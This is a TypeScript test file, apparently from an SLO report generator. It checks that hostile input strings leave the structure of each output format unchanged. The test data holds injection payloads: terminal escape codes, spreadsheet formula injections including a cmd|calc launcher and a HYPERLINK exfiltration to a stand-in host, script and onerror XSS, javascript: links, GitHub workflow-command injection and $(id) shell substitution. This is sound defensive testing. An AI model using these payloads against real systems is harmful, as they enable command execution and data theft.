import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import type { JsonObject } from '../../../src/core/json.ts';
import { plainAlerting } from '../../../src/core/prometheus/alerting.ts';
import type { Query } from '../../../src/core/prometheus/slo-queries.ts';
import { exactly } from '../../../src/core/quantity/decimal.ts';
import { utc } from '../../../src/core/time/zone.ts';
import { formats } from '../../../src/report/formats/index.ts';
import { plainText } from '../../../src/report/plain-text.ts';
import { type Block, text } from '../../../src/report/report.ts';
import type { ReportedSlo } from '../../../src/report/slo-report.ts';
import { wholeText } from './render.ts';

/*
 * Texts that are orders somewhere, in every place that a text of an input goes to. A place has a structure (tags, rows, keys,
 * commands); with a hostile text in it, it must be what it is with the harmless one.
 */
const texts: Readonly<Record<string, string>> = {
  'a colour of a terminal': '\u001b[31mred\u001b[0m',
  'a title of a terminal': '\u001b]0;owned\u0007',
  'an order in one byte': '\u009b2J',
  'signs without a width': 'a\u200bb\ufeffc\u202ed\u2066e',
  'ends of lines': 'a\nb\r\nc\rd\u2028e\u0085f',
  'nothing, and half a sign': '\u0000\ud83d',
  tabs: 'a\tb',
  'a formula': '=HYPERLINK("http://x.example/?"&A1,"click")',
  'a formula with a sign': "+1+cmd|' /C calc'!A0",
  'a formula of subtraction': "-2+3+cmd|'x'!A0",
  'a function': '@SUM(1+1)*cmd',
  'a script': '<script>alert(1)</script>',
  'an image': '<img src=x onerror="alert(1)">',
  'the end of an element': '"></text></style></title><b a=\'',
  'the end of a section': ']]> --> */ ?>',
  'an entity': '&lt;b&gt; &#x3c;',
  'a link': '[x](javascript:alert(1)) ![y](http://x.example/p.png)',
  'an address': 'http://x.example www.x.example',
  'somebody, and an issue': '@team #1 GH-1',
  'a table': '| a | b |\n|---|---|',
  'a list': '- a',
  'a numbered list': '1. a',
  'a rule': '---',
  'a heading': '# a',
  code: '`a` ``b`` ```c',
  emphasis: '**a** _b_ ~~c~~',
  'a formula of TeX': '$\\href{http://x.example}{y}$',
  'an order of GitHub': '::error file=a::b',
  'an order after an end of line': 'a%0A::set-output name=b::c\n::error::d',
  'an order of another runner': '##[error]a ##vso[task.complete]',
  'a template': '{{ .Labels.x }} {% raw %}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an order of a shell
  'a variable': '${x} $(id) `id` $x %x%',
  'a tag of YAML': '!!js/function "x"',
  'an alias of YAML': '*a',
  'an anchor of YAML': '&a b: c',
  'a key of YAML': 'a: b #c',
  'a null of YAML': '~',
  'a label of a graph': 'a"]; n1 --> n2; click n1 "javascript:x"',
  'an order of a graph': '%%{init: {"securityLevel":"loose"}}%%',
  'a name of a graph': '\\N\\L" URL="javascript:x',
  'a key of every object': '__proto__',
  'a very long text': 'a'.repeat(10_000),
};

/** With signs, so that names that may have none are written as those of the others. */
const harmless = 'a text, without orders';

function report(given: string) {
  const blocks: readonly Block[] = [
    { kind: 'facts', facts: [{ label: given, value: text(given), note: given }] },
    {
      kind: 'table',
      title: given,
      columns: [{ title: given, align: 'left', drop: 0 }],
      rows: [[text(given)], [{ kind: 'text', text: given, isCode: true }]],
      notes: [given],
    },
    { kind: 'list', title: given, items: [{ text: given, tone: 'bad' }] },
  ];
  const query: Query = { text: given, placeAt: () => ({ kind: 'file', file: given }) };
  const queries = { kind: 'good', good: query, total: query } as const;
  const slo: ReportedSlo = {
    ...{ name: given, ownName: given, service: given, indicator: given, method: 'Occurrences' },
    window: { kind: 'rolling', seconds: 2_592_000 },
    objectives: [{ name: given, ratio: exactly(0.999), timeSliceTarget: null, timeSliceSeconds: null, queries }],
    alerting: { ...plainAlerting, name: given, labels: { owner: given } },
  };
  const node = { id: given, kind: 'part', lines: [given], tone: null, domain: given, isWeak: true } as const;
  const graph = {
    domains: [{ name: given, says: given, isWeak: false }],
    nodes: [node],
    edges: [{ from: given, to: given, kind: 'optional' }],
  } as const;
  const none = { data: {}, warnings: [], remarks: [], explanation: () => [] };
  return { ...none, title: given, blocks, slos: [slo], graph: () => graph };
}

async function written(format: string, given: string): Promise<string> {
  const place = { file: given, line: 1, column: 1 };
  const check = { expression: given, actual: given, status: 'missed', limit: null, fails: true, message: given };
  const result: JsonObject = {
    schema: 'ninefold/compose/1',
    longest: [{ title: given, service: given }],
    warnings: [{ kind: 'open', message: given }],
    checks: [{ ...check, ...place }],
    lint: [{ rule: 'same-domain', severity: 'error', message: given, remedy: given, where: given, ...place }],
  };
  const context = { width: 80, color: false, zone: utc, result, version: '1.2.3', files: [given] };
  const render = await formats[format]!.load();
  return wholeText(render(report(given), { ...context, repositoryPath: (file) => file }));
}

/** Of a tree: its keys and kinds, without what its texts say. */
function shape(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(shape);
  if (typeof value !== 'object' || value === null) return typeof value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, shape(each)]));
}
/** Without what depends on how long a text is, and what it says is code. */
const tags = (page: string) =>
  page
    .match(/<[^>]*>/g)
    ?.flatMap((tag) => (/^<\/?code>$/.test(tag) ? [] : tag.replace(/ class="[^"]*"/, '').replace(/"[^"]*"/g, '""')));

/** What of a document is structure. */
const structures: Readonly<Record<string, (document: string) => unknown>> = {
  table: (document) => /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/.test(document),
  json: (document) => shape(JSON.parse(document)),
  csv: (document) => parse(document).map((row: readonly string[]) => [row[0], row.length]),
  markdown: (document) =>
    document
      .replace(/\\[!-/:-@[-`{-~]/g, '') // escaped
      .replace(/`[^`\n]*`/g, 'code')
      .replace(/&(?:amp|lt|gt);/g, '')
      .split('\n')
      .map(
        (line) =>
          `${/^(?:#+ |\| |- (?:(?:[-+*]|\d+[.)]|#{1,6}|>)(?: |$)|(?:-{3,}|={3,})$)*)?/.exec(line)![0]}${line.replace(/[^`*_[\]<>|~$]|code/g, '')}`,
      ),
  html: tags,
  junit: tags,
  github: (document) =>
    document.split('\n').map((line) => /^::(\w+) ((?:\w+=[^,:]*,?)*)::[^\r\n]*$/.exec(line)?.[1] ?? line),
  sarif: (document) => shape(JSON.parse(document)),
  gitlab: (document) => shape(JSON.parse(document)),
  mermaid: (document) => document.replace(/"[^"\n]*"/g, '""'),
  dot: (document) => document.replace(/"(?:[^"\\\n]|\\.)*"/g, '""'),
  ...Object.fromEntries(
    ['openslo', 'sloth', 'prometheus', 'promtool-test'].map((name) => [
      name,
      (document: string) => {
        const parsed = parseDocument(document, { uniqueKeys: true, customTags: [] });
        return [parsed.errors, parsed.warnings, shape(parsed.toJS())];
      },
    ]),
  ),
};

describe.each(Object.keys(formats))('in %s', (format) => {
  it.each(Object.entries(texts))('%s is a text', async (_, hostile) => {
    const structure = structures[format]!;
    expect(structure(await written(format, hostile))).toEqual(structure(await written(format, harmless)));
  });
});

describe('a text of an input', () => {
  it.each(Object.values(texts))('%j is the same text in CSV and JSON', async (given) => {
    // docs/gates.md says so: CSV is for programs, and a spreadsheet is told to take its columns as text
    const rows: readonly (readonly string[])[] = parse(await written('csv', given));
    expect(rows.find(([metric]) => metric === 'longest[0].title')?.[1]).toBe(plainText(given));
    expect(JSON.parse(await written('json', given)).longest[0].title).toBe(given);
  });
  it('names nobody and no address in Markdown', async () => {
    const page = await written('markdown', '@team http://x.example www.x.example');
    expect(page.replace(/`[^`\n]*`/g, ''), 'code is no link').not.toMatch(/@\w|p:\/\/|www\./);
  });
  it('is no template of Prometheus', async () => {
    const rules = await written('prometheus', '{{ .Labels.x }}');
    expect(rules.replaceAll(/\{\{ ?("[^"]*"|`[^`]*`) ?\}\}/g, '')).not.toMatch(/(description|summary).*\{\{ \.Labels/);
  });
});
